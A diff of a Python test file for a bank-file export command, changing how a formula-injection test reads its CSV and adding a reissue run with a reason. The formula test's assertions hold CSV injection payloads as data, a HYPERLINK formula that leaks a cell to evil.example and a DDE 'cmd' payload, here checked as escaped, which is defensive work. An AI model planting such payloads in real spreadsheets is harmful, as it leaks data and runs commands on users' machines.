@@ -136,7 +136,7 @@ def test_names_that_look_like_formulas_stay_text(locked: Path, tmp_path: Path) -
     store = copy_store(locked, tmp_path)
     bank = tmp_path / "bank.csv"
     assert eperf("bankfile", "--period", PERIOD, "--out", str(bank), "--warehouse", str(store)).exit_code == 0
-    names = pl.read_csv(bank, infer_schema=False)["name"].drop_nulls().to_list()
+    names = pl.read_csv(bank, infer_schema=False, comment_prefix="#")["name"].drop_nulls().to_list()
     assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
     assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")" in names
     assert "'=cmd|'/C calc'!A0" in names  # the tab went with the spaces around the cell
@@ -181,8 +181,9 @@ def test_warehouse_commands_refuse_what_they_would_damage(locked: Path, tmp_path
 def test_a_bank_file_replaces_only_a_bank_file(locked: Path, tmp_path: Path) -> None:
     store = copy_store(locked, tmp_path)
     bank = tmp_path / "bank.csv"
-    for _ in range(2):
-        assert eperf("bankfile", "--period", PERIOD, "--out", str(bank), "--warehouse", str(store)).exit_code == 0
+    for again in ([], ["--reissue", "--reason", "the bank lost it"]):  # the payment's file, then written again
+        assert eperf("bankfile", "--period", PERIOD, "--out", str(bank), "--warehouse", str(store),
+                     *again).exit_code == 0
     assert leftovers(bank) == []
     audit = eperf("audit", "--warehouse", str(store)).output
     assert audit.count("bank file") == 2
